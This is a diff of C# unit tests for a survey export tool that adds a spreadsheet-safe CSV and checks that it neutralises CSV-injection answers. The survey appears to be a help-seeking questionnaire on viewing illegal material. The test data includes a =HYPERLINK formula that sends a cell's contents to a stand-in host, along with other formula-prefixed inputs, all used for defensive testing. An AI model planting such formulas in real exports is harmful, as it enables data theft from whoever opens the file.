@@ -55,7 +55,7 @@ public sealed class ExportTests
         responses.Add(new SurveyResponse("flagged", null, new Dictionary<string, string> { ["help_wanted"] = "chat other" }, ["speeding"]));
         var files = SurveyExport.Create(Demo(), responses).Files;
         Assert.Equal(
-            ["help-us-help-you.csv", "help-us-help-you_codebook.csv", "help-us-help-you.R", "help-us-help-you.sps", "help-us-help-you.do"],
+            ["help-us-help-you.csv", "help-us-help-you_spreadsheet.csv", "help-us-help-you_codebook.csv", "help-us-help-you.R", "help-us-help-you.sps", "help-us-help-you.do"],
             files.Keys);
         var header = files["help-us-help-you.csv"].Split('\n')[0].Split(',');
         Assert.Equal("response_id", header[0]);
@@ -72,11 +72,63 @@ public sealed class ExportTests
         Assert.Equal("1", flagged[Array.IndexOf(header, "flag_speeding")]);
         Assert.Equal(string.Empty, flagged[Array.IndexOf(header, "response_date")]);
         var codebook = files["help-us-help-you_codebook.csv"];
-        Assert.Contains("frequency,frequency,How often have you viewed this material in the past 12 months?,select_one frequency,daily=Daily or almost daily (code 1); weekly=", codebook, StringComparison.Ordinal);
-        Assert.Contains("help_wanted_chat,help_wanted,What kind of help would you like?: Anonymous chat or phone line,0/1,0=not chosen; 1=chosen", codebook, StringComparison.Ordinal);
+        Assert.Contains("frequency,frequency,How often have you viewed this material in the past 12 months?,select_one frequency,\"daily=Daily or almost daily (code 1); weekly=", codebook, StringComparison.Ordinal);
+        Assert.Contains("help_wanted_chat,help_wanted,What kind of help would you like?: Anonymous chat or phone line,0/1,\"0=not chosen; 1=chosen\"", codebook, StringComparison.Ordinal);
 
         // Question 26 of the published survey keeps its scale order, so the codes reproduce its table.
-        Assert.Contains("contact_users,contact_users,Have you been in contact with other CSAM/illegal violent material users?,select_one contact_frequency,often=Often (code 1); sometimes=Sometimes (code 2); never=Never (code 3); not_want=I do not want to be in contact (code 4)", codebook, StringComparison.Ordinal);
+        Assert.Contains("contact_users,contact_users,Have you been in contact with other CSAM/illegal violent material users?,select_one contact_frequency,\"often=Often (code 1); sometimes=Sometimes (code 2); never=Never (code 3); not_want=I do not want to be in contact (code 4)\"", codebook, StringComparison.Ordinal);
+    }
+
+    /// <summary>Answers a spreadsheet would run as formulas (CSV injection), and look-alikes that are plain values, with what the spreadsheet file holds.</summary>
+    private static readonly (string Raw, string Sheet)[] FormulaAnswers =
+    [
+        ("=HYPERLINK(\"http://zorblat.invalid/?q=\"&A1,\"quenmix\")", "'=HYPERLINK(\"http://zorblat.invalid/?q=\"&A1,\"quenmix\")"),
+        ("+1+2", "'+1+2"), ("-2+3", "'-2+3"), ("@SUM(A1:A2)", "'@SUM(A1:A2)"), ("=1;=2", "'=1;=2"),
+        ("-5", "-5"), ("+7", "+7"), ("3.5", "3.5"), ("a=b", "a=b"),
+    ];
+
+    [Fact]
+    public void The_spreadsheet_csv_neutralises_formulas_and_R_reads_the_raw_values()
+    {
+        var responses = FormulaAnswers.Select((answer, i) => new SurveyResponse(
+            $"f{i}", null, new Dictionary<string, string> { ["age"] = "-3", ["frequency"] = "daily", ["comments"] = answer.Raw }, [])).ToList();
+        var files = SurveyExport.Create(Demo(), responses).Files;
+
+        var raw = ReadCsv(files["help-us-help-you.csv"]);
+        var sheet = ReadCsv(files["help-us-help-you_spreadsheet.csv"].TrimStart('\uFEFF'));
+        Assert.Equal(raw[0], sheet[0]);
+        var comments = Array.IndexOf(raw[0], "comments");
+        var age = Array.IndexOf(raw[0], "age");
+        for (var i = 0; i < FormulaAnswers.Length; i++)
+        {
+            Assert.Equal(FormulaAnswers[i].Raw, raw[i + 1][comments]);
+            Assert.Equal(FormulaAnswers[i].Sheet, sheet[i + 1][comments]);
+            Assert.Equal("-3", sheet[i + 1][age]); // a negative number stays a number
+        }
+
+        // No cell of the spreadsheet file starts a formula; a semicolon (a separator in some locales) is always quoted.
+        Assert.All(sheet.SelectMany(row => row), cell => Assert.False(cell.Length > 0 && "=@\t\r".Contains(cell[0], StringComparison.Ordinal), cell));
+        Assert.Contains("\"'=1;=2\"", files["help-us-help-you_spreadsheet.csv"], StringComparison.Ordinal);
+
+        // The codebook says so for the free-text columns, and R, SPSS and Stata read the raw file.
+        var codebook = ReadCsv(files["help-us-help-you_codebook.csv"]);
+        var note = Array.IndexOf(codebook[0], "in_spreadsheet_csv");
+        Assert.StartsWith("a value starting with = + - @", codebook.Single(r => r[0] == "comments")[note], StringComparison.Ordinal);
+        Assert.Equal("as in help-us-help-you.csv", codebook.Single(r => r[0] == "age")[note]);
+        foreach (var syntax in new[] { "help-us-help-you.R", "help-us-help-you.sps", "help-us-help-you.do" })
+        {
+            Assert.Contains("help-us-help-you.csv", files[syntax], StringComparison.Ordinal);
+            Assert.DoesNotContain("_spreadsheet", files[syntax], StringComparison.Ordinal);
+        }
+
+        Assert.True(File.Exists("/usr/bin/Rscript"), "R is missing: ./test.sh installs r-base-core");
+        var directory = TestEnvironment.NewTempDirectory("survey-export-formulas");
+        SurveyExport.WriteTo(SurveyExport.Create(Demo(), responses), directory);
+        File.WriteAllText(Path.Combine(directory, "check.R"), """
+            source("help-us-help-you.R")
+            cat(d$comments, sep = "\n")
+            """);
+        Assert.Equal(FormulaAnswers.Select(a => a.Raw), RunR(directory).TrimEnd('\n').Split('\n'));
     }
 
     [Fact]
